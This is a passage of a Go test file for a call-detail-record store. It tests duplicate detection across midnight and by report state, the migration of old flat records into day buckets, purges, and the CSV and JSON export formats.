	if list, err := a.cdrs(context.Background(), dayRange{}); err != nil || len(list) != 2 {
		t.Fatalf("export beside a temporary file: %d records, %v", len(list), err)
	}
	st := localLocks{failingLoad{Storage: a.storage, key: cdrKey(c2)}}
	b := &App{storage: st, state: newStateStore(st, time.Hour), log: zap.NewNop()}
	if list, err := b.cdrs(context.Background(), dayRange{}); err == nil || !strings.Contains(err.Error(), "i/o timeout") {
		t.Fatalf("export with an unreadable record: %d records, %v; want the error", len(list), err)
	}
}

// Near midnight a retry is a duplicate of a first copy in the next day's
// bucket too: received by an instance whose clock is a little ahead.
func TestCDRDedupClockAhead(t *testing.T) {
	a, _, _ := cdrTestApp(t, at("2024-03-10T00:00:01Z"))
	mustStore(t, a, testCDR(7, at("2024-03-10T00:00:01Z")))
	stored, err := a.storeCDR(context.Background(), testCDR(7, at("2024-03-09T23:59:59Z")))
	if err != nil || stored {
		t.Fatalf("retry 2 s earlier across midnight: stored %v, %v", stored, err)
	}
	if list, _ := a.cdrs(context.Background(), dayRange{}); len(list) != 1 {
		t.Fatalf("%d records, want 1", len(list))
	}
}

// The flat records of the first versions move into the buckets of their
// days, once; exports and purges see the same records before and after,
// and a record moved but whose flat copy a crash left is exported once.
// An unreadable flat record stays where it is.
func TestMigrateFlatCDRs(t *testing.T) {
	a, _, _ := cdrTestApp(t, at("2024-03-05T09:00:00Z"))
	cdrFixture(t, a)
	ctx := context.Background()
	before, err := a.cdrs(ctx, dayRange{})
	if err != nil {
		t.Fatal(err)
	}
	// a crash after moving one record, before deleting its flat copy
	c2 := testCDR(2, at("2024-03-03T23:59:59Z"))
	storeRawCDR(t, a, path.Join(cdrBucket(c2.Received), oldCDRName(c2)), c2)
	if got, err := a.cdrs(ctx, dayRange{}); err != nil || !reflect.DeepEqual(txIDs(got), txIDs(before)) {
		t.Fatalf("export with a record in both places: %v %v, want %v", txIDs(got), err, txIDs(before))
	}

	n, err := a.migrateFlatCDRs(ctx)
	if err != nil || n != 3 {
		t.Fatalf("moved %d (%v), want the 3 readable flat records", n, err)
	}
	if _, legacy, err := a.cdrLayout(ctx); err != nil || len(legacy) != 0 {
		t.Fatalf("flat records left: %v %v", legacy, err)
	}
	after, err := a.cdrs(ctx, dayRange{})
	if err != nil || !reflect.DeepEqual(after, before) {
		t.Fatalf("export after the move: %v %v, want %v", txIDs(after), err, txIDs(before))
	}
	unreadable := path.Join(cdrsPrefix(), "broken.json")
	if err := a.storage.Store(ctx, unreadable, []byte("{")); err != nil {
		t.Fatal(err)
	}
	if n, err := a.migrateFlatCDRs(ctx); err != nil || n != 0 {
		t.Fatalf("second run moved %d (%v)", n, err)
	}
	if _, legacy, _ := a.cdrLayout(ctx); len(legacy) != 1 || legacy[0] != unreadable {
		t.Fatalf("flat records left: %v, want the unreadable one where it was", legacy)
	}
	// the record of 2024-02-28 is now purged with its day's bucket
	res, err := a.purgeCDRs(ctx, day("2024-03-01"))
	if err != nil || !reflect.DeepEqual(res.DeletedDays, []string{"2024-02-28"}) || res.DeletedLegacyRecords != 0 {
		t.Fatalf("purge before 2024-03-01: %+v %v", res, err)
	}
}

// A device that reports a call more than once (<RoleInfo><State>: start,
// interim, stop) has each report stored; a retry of one of them is still a
// duplicate, and the export says which report a record is.
func TestCDRDedupByRoleState(t *testing.T) {
	now := at("2024-03-09T10:00:00Z")
	a, _, _ := cdrTestApp(t, now)
	ctx := context.Background()
	for i, c := range []struct {
		state  string
		stored bool
	}{
		{"start", true},
		{"interim", true},
		{"stop", true},
		{"stop", false},  // a retry
		{"STOP", false},  // states are compared as roles are
		{"", true},       // no RoleInfo: a record of its own, as before
		{"", false},      // and its retry
		{"st/op", true},  // hashed into the name, like a role
		{"st/op", false}, // and deduplicated
	} {
		r := testCDR(7, now.Add(time.Duration(i)*time.Second))
		r.RoleState = c.state
		ok, err := a.storeCDR(ctx, r)
		if err != nil || ok != c.stored {
			t.Errorf("report %d (state %q): stored=%v (%v), want %v", i, c.state, ok, err, c.stored)
		}
	}
	list, err := a.cdrs(ctx, dayRange{})
	if err != nil {
		t.Fatal(err)
	}
	var states []string
	for _, r := range list {
		states = append(states, r.RoleState)
	}
	slices.Sort(states)
	if want := []string{"", "interim", "st/op", "start", "stop"}; !slices.Equal(states, want) {
		t.Errorf("exported states %q, want %q", states, want)
	}
	// interim reports come as often as the gateway likes, each with the
	// duration so far: every one is kept, a retry of one is not
	for i, c := range []struct {
		state    string
		duration float64
		stored   bool
	}{
		{"interim", 60, true},
		{"interim", 60, false},
		{"interim", 120, true},
		{"Interim", 120, false},
		{"interim1", 120, true},
	} {
		r := testCDR(9, now.Add(time.Duration(i)*time.Second))
		r.RoleState, r.Duration = c.state, c.duration
		ok, err := a.storeCDR(ctx, r)
		if err != nil || ok != c.stored {
			t.Errorf("interim report %d (%q, %v s): stored=%v (%v), want %v", i, c.state, c.duration, ok, err, c.stored)
		}
	}
	// reports without transaction id (calls not authorized) that share a
	// call id are told apart by their start, and a retry is still one
	for i, c := range []struct {
		start  time.Time
		stored bool
	}{
		{now.Add(-time.Hour), true},
		{now.Add(-time.Hour), false},
		{now.Add(-time.Minute), true},
		{time.Time{}, true},
		{time.Time{}, false},
	} {
		r := testCDR(0, now.Add(time.Duration(i)*time.Second))
		r.StartTime = c.start
		ok, err := a.storeCDR(ctx, r)
		if err != nil || ok != c.stored {
			t.Errorf("report %d without transaction id, start %v: stored=%v (%v), want %v", i, c.start, ok, err, c.stored)
		}
	}
	var buf bytes.Buffer
	w, err := newCDRCSV(&buf)
	if err != nil {
		t.Fatal(err)
	}
	r := testCDR(8, now)
	pdd := 2.01
	r.RoleState, r.ProviderPostDialDelay = "stop", &pdd
	if err := w.write(r); err != nil || w.flush() != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if len(lines) != 2 || !strings.Contains(lines[0], ",role_state,provider_post_dial_delay_seconds,transaction_issued,destination_device,") || !strings.Contains(lines[1], ",stop,2.01,,") {
		t.Errorf("CSV:\n%s", buf.String())
	}
}

// A purge of yesterday waits until cdrMidnightWindow after midnight: a
// record received just before it may still be being written, and a
// midnight export would not hold it.
func TestCDRPurgeAfterMidnight(t *testing.T) {
	q := url.Values{"before": {"2024-03-05"}}
	for _, c := range []struct {
		now string
		err string
	}{
		{"2024-03-05T00:00:00Z", "yesterday's records may still be arriving until 00:05 UTC"},
		{"2024-03-05T00:04:59Z", "until 00:05 UTC"},
		{"2024-03-05T00:05:00Z", ""},
		{"2024-03-04T23:59:00Z", ""}, // tomorrow: today's records go too, as asked
		{"2024-03-05T12:00:00Z", ""},
	} {
		_, err := cdrPurgeQuery(q, at(c.now))
		if (c.err == "") != (err == nil) || err != nil && !strings.Contains(err.Error(), c.err) {
			t.Errorf("purge before 2024-03-05 at %s: %v, want %q", c.now, err, c.err)
		}
	}
}

// decodeCDRExport reads a JSON export, whose transaction ids are strings.
func decodeCDRExport(t *testing.T, b []byte) []CDR {
	t.Helper()
	var list []cdrExport
	if err := json.Unmarshal(b, &list); err != nil {
		t.Fatal(err)
	}
	out := make([]CDR, len(list))
	for i, e := range list {
		id, err := strconv.ParseUint(e.TransactionID, 10, 64)
		if err != nil {
			t.Fatalf("transaction_id %q: %v", e.TransactionID, err)
		}
		out[i] = e.CDR
		out[i].TransactionID = id
	}
	return out
}
